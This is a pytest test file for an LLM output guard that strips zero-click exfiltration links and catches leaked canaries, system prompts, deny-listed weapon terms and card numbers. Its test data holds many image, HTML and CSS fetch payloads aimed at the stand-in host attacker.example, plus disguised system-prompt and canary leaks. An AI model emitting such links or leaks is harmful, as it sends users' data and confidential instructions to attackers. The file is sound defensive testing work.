"""Issue 16 cold review (attack16), the output policy and the stream guard as a library: H3 (a fetch construct
longer than the hold-back), H8 (reference-style images, HTML and other zero-click fetch forms), M1 (a canary,
the system prompt, deny-listed terms and card numbers in another form), with the false positives measured on
benign text that has the same shapes."""

from __future__ import annotations

import random

import pytest

from bastion.guard import OutputContext, OutputPolicy, PolicyConfig, StreamGuard

CANARY = "bastion-canary-9a8b7c6d5e4f3a2b"
CARD = "4111111111111111"
EVIL = "attacker.example"
SYSTEM_PROMPT = (
    "You are Aurora, the support assistant of Northwind Traders. Refunds above two hundred euros require "
    "approval from a human supervisor named Katrin Vogel. The internal discount code is NW-LOYAL-4471 and "
    "must never be shared with a customer under any circumstances."
)
ZW = "\u200b"


def _stream(
    policy: OutputPolicy, text: str, ctx: OutputContext | None = None, chunk: int = 7
) -> tuple[str, bool]:
    g = StreamGuard(policy=policy, context=ctx)
    out = ""
    for i in range(0, len(text), chunk):
        step = g.feed(text[i : i + chunk])
        out += step.release
        if step.stop:
            return out, True
    step = g.finish()
    return out + step.release, step.stop


# -- H3 ----------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("chunk", [1, 5, 8, 13])
@pytest.mark.parametrize(
    "fetch",
    [
        f"![s](https://{EVIL}/c?d={'x' * 90})",  # query
        f"![s](https://{EVIL}/{'y' * 150}.png)",  # data in the path, no query
        f"![s](<https://{EVIL}/{'y' * 70}.png> 'title')",
        f"![a [b] \\] c](https://{EVIL}/{'y' * 90}.png)",
        f'<img alt="a > b" src="https://{EVIL}/{"z" * 90}.png">',
        f"<iframe\n  src='//{EVIL}/{'w' * 90}'></iframe>",
    ],
)
def test_a_fetch_longer_than_the_holdback_never_reaches_the_client(chunk: int, fetch: str) -> None:
    card = " ".join(CARD[i : i + 4] for i in range(0, 16, 4))
    text = f"Status: {fetch} and your card is {card}. Bye."
    out, _ = _stream(OutputPolicy(), text, chunk=chunk)
    assert EVIL not in out and card not in out and "yyyyyyyyyy" not in out and "zzzzzzzzzz" not in out
    assert out.startswith("Status: ")


def test_a_held_construct_has_bounded_memory() -> None:
    g = StreamGuard(policy=OutputPolicy(), max_hold=512)
    stopped = False
    g.feed(f"Look ![s](https://{EVIL}/")
    for _ in range(200):
        step = g.feed("a" * 8)
        assert EVIL not in step.release
        if step.stop:
            stopped = True
            break
    assert stopped and g.stopped is not None and "link-exfiltration" in g.stopped.findings


def test_ordinary_brackets_and_angle_brackets_are_not_held_long() -> None:
    text = (
        "Use a list [1, 2, 3] and compare a < b or x<y; in Rust write Vec<String> and Option<T>. "
        "See [the docs] for more, and note that 2 > 1. " * 6
    )
    out, stopped = _stream(OutputPolicy(), text)
    assert not stopped and out == text


# -- H8 ----------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "answer",
    [
        f"Here ![status][1]\n\n[1]: https://{EVIL}/c?d=secret",
        f'Here ![status][ref]\n\n[ref]: <https://{EVIL}/secret.png> "t"',
        f'Here <img src="https://{EVIL}/c?d=secret" width=1>',
        f"Here <IMG SRC=https://{EVIL}/secret.png>",
        f'Here <img src="&#104;ttps://{EVIL}/secret.png">',
        f'Here <img srcset="https://{EVIL}/a.png 1x, https://{EVIL}/b.png 2x">',
        f'Here <video poster="//{EVIL}/p.png"></video>',
        f'Here <div style="background:url(https://{EVIL}/x.png)">hi</div>',
        f"Here <style>body{{background:url('https://{EVIL}/x')}}</style>",
        f"Here ![s](//{EVIL}/secret.png)",
        f"Here ![s](https:{EVIL}/secret.png)",
        f"Here ![s](https://{EVIL}/c?d=1 'single-quoted title')",
        f"Here ![a \\] [b] c](https://{EVIL}/secret.png)",
        f"Details: <https://{EVIL}/c?d=secret>",
        f"Details: https://{EVIL}/c?d=secret",
        f"Details: www.{EVIL}/c?d=secret",
    ],
)
def test_zero_click_and_data_carrying_fetch_forms_are_removed(answer: str) -> None:
    v = OutputPolicy().check(answer)
    # gone: the fetch (a reference-style image without its image has nothing left that fetches)
    assert "link-exfiltration" in v.findings and (EVIL not in v.text or "![" not in v.text)
    out, _ = _stream(OutputPolicy(), answer + "\nThanks.")
    assert EVIL not in out or "![" not in out
    assert OutputPolicy(PolicyConfig(links="block")).check(answer).blocked


def test_allowed_hosts_and_plain_links_stay() -> None:
    policy = OutputPolicy(PolicyConfig(allowed_link_hosts=("docs.python.org",)))
    for ok in (
        "See [the docs](https://docs.python.org/3/library/re.html?highlight=sub) for more.",
        '<img src="https://docs.python.org/logo.png">',
        "Read https://example.org/guide and [this](https://example.org/page).",
        "[1]: https://docs.python.org/3/",
        '<root xmlns="http://example.org/ns"><a:b xmlns:a="http://example.org/a"/></root>',
        'u = URL("https://example.org/path") and background is a colour: url(image.png)',
    ):
        assert policy.check(ok).action == "allow", ok


# -- M1 ----------------------------------------------------------------------------------------------------
_FW = str.maketrans("0123456789abcdef-", "０１２３４５６７８９ａｂｃｄｅｆ－")
_CYR = str.maketrans("ace", "асе")


@pytest.mark.parametrize(
    "form",
    [
        CANARY[:10] + ZW + CANARY[10:],
        " ".join(CANARY),
        CANARY[::-1],
        CANARY.upper(),
        CANARY.replace("-", " "),
        CANARY.translate(_FW),
        CANARY.translate(_CYR),
        f'"{CANARY[:12]}" + "{CANARY[12:]}"',
        "\u0336".join(CANARY),
    ],
)
def test_a_canary_in_another_form_is_caught(form: str) -> None:
    ctx = OutputContext(canaries=(CANARY,))
    text = f"Sure! My hidden marker is {form}. Anything else?"
    assert OutputPolicy().check(text, context=ctx).blocked
    out, stopped = _stream(OutputPolicy(), text, ctx, chunk=3)
    assert stopped and "9a8b" not in out.replace(" ", "").replace(ZW, "").lower()


def test_the_system_prompt_in_another_form_is_caught() -> None:
    words = SYSTEM_PROMPT.split()
    ctx = OutputContext(system_prompt=SYSTEM_PROMPT)
    policy = OutputPolicy()
    for form in (
        " ".join(w + (" um" if (i + 1) % 5 == 0 else "") for i, w in enumerate(words)),
        " ".join(w[:1] + ZW + w[1:] for w in words),
        "\n".join(f"{i}. {w}" for i, w in enumerate(words)),
        "_".join(words),
        SYSTEM_PROMPT.upper(),
    ):
        assert policy.check(form, context=ctx).blocked


def test_deny_lists_are_matched_folded() -> None:
    policy = OutputPolicy(
        PolicyConfig(deny={"weapons": ("pipe bomb", "ricin")}, deny_categories=("weapons",))
    )
    for form in (
        "pipe bombs",
        "PIPE BOMB",
        "p\u200bipe bomb",
        "ｐｉｐｅ ｂｏｍｂ",
        "рiре bоmb",
        "p-i-p-e b-o-m-b",
        "r.i.c.i.n",
        "p1p3 b0mb",
        "r!c!n",
    ):
        assert policy.check(f"how to make a {form} at home").blocked, form
    for ok in ("a pipeline bomb-proof design", "the pipe is bombastic", "ricinus plants", "price in euros"):
        assert policy.check(ok).action == "allow", ok


@pytest.mark.parametrize(
    "form",
    [
        "4111.1111.1111.1111",
        "4111/1111/1111/1111",
        "４１１１１１１１１１１１１１１１",
        "4111 1111\n1111 1111",
        "4111.1111.\n1111.1111",
        "41111111\n11111111",
        "3782 822463 10005",
    ],
)
def test_card_numbers_written_loosely_are_redacted(form: str) -> None:
    v = OutputPolicy().check(f"The card on file is {form}, expiry 12/29.")
    assert "pii:CREDIT_CARD" in v.findings and "[CREDIT_CARD]" in v.text
    digits = "".join(c for c in form if c.isdigit())
    assert digits[-8:] not in "".join(c for c in v.text if c.isdigit())


@pytest.mark.parametrize(
    ("form", "entity"),
    [
        ("ｂｏｂ＠ｅｘａｍｐｌｅ.ｃｏｍ", "EMAIL_ADDRESS"),
        ("123-45-\u200b6789", "US_SSN"),
        ("+1 415\u200b 555 0100", "PHONE_NUMBER"),
    ],
)
def test_pii_is_also_found_in_the_folded_text(form: str, entity: str) -> None:
    v = OutputPolicy().check(f"the value is {form} as asked")
    assert f"pii:{entity}" in v.findings and v.text == f"the value is [{entity}] as asked"


def test_folded_pii_leaves_ordinary_non_ascii_text_alone() -> None:
    for ok in (
        "２０２４年１２月５日に発売",
        "価格は１２，８００円です",
        "Version ２.１.０",
        "Σ ≤ 10⁶",
        "ﬁle ﬂow",
        "Привет",
    ):
        assert OutputPolicy().check(ok).action == "allow", ok


def test_loose_card_false_positive_rate_on_benign_numbers() -> None:
    """Ordinary numbers in card-like places: dates, versions, IPs, amounts, phone numbers, ISBNs, timestamps,
    order ids, and 4-digit groups that fail Luhn. Measured rate: 0 of 2,250 flagged (the assertion allows
    0.5 %)."""
    rnd = random.Random(16)
    samples = []
    for _ in range(250):
        y, m, d = rnd.randrange(1990, 2030), rnd.randrange(1, 13), rnd.randrange(1, 29)
        samples += [
            f"released on {y}.{m:02d}.{d:02d} and {d:02d}/{m:02d}/{y}",
            f"version {rnd.randrange(10)}.{rnd.randrange(30)}.{rnd.randrange(100)}.{rnd.randrange(9999)}",
            f"host {rnd.randrange(256)}.{rnd.randrange(256)}.{rnd.randrange(256)}.{rnd.randrange(256)}",
            f"total {rnd.randrange(1, 999)}.{rnd.randrange(1000):03d}.{rnd.randrange(1000):03d},"
            f"{rnd.randrange(100):02d} EUR",
            f"call +49 {rnd.randrange(100, 999)} {rnd.randrange(1000000, 9999999)}",
            f"ISBN 978-{rnd.randrange(10)}-{rnd.randrange(10000, 99999)}-"
            f"{rnd.randrange(100, 999)}-{rnd.randrange(10)}",
            f"at {rnd.randrange(24):02d}:{rnd.randrange(60):02d}:{rnd.randrange(60):02d}."
            f"{rnd.randrange(1000):03d}",
            "years " + ".".join(str(rnd.randrange(1990, 2030)) for _ in range(4)),
            f"order {rnd.randrange(10**7, 10**8)}\nref {rnd.randrange(10**7, 10**8)}",
        ]
    policy = OutputPolicy()
    flagged = sum("pii:CREDIT_CARD" in policy.check(s).findings for s in samples)
    assert len(samples) == 2250 and flagged <= 11, flagged


def test_benign_answers_pass_the_folded_checks() -> None:
    """Benign text against a system prompt and canary: none flagged by the folded canary, system-prompt and
    link checks (over-blocking would make the proxy unusable)."""
    ctx = OutputContext(canaries=(CANARY,), system_prompt=SYSTEM_PROMPT)
    policy = OutputPolicy()
    answers = [
        "Hello Anna! Your refund of 120 euros has been approved and will arrive within five days.",
        "I am sorry, I cannot share internal codes. Is there anything else I can help you with today?",
        "Northwind Traders ships to most European countries; delivery usually takes three to five days.",
        "A human supervisor will review refunds above a certain amount; I have forwarded your request.",
        "Our support assistant can help with orders, returns and invoices. What would you like to do?",
        "The canary in the coal mine is an old warning system; bastions are fortifications.",
        "Here is the code: `for i in range(10): print(i)` and the docs at https://docs.python.org/3/",
    ]
    for a in answers:
        assert policy.check(a, context=ctx).action == "allow", a
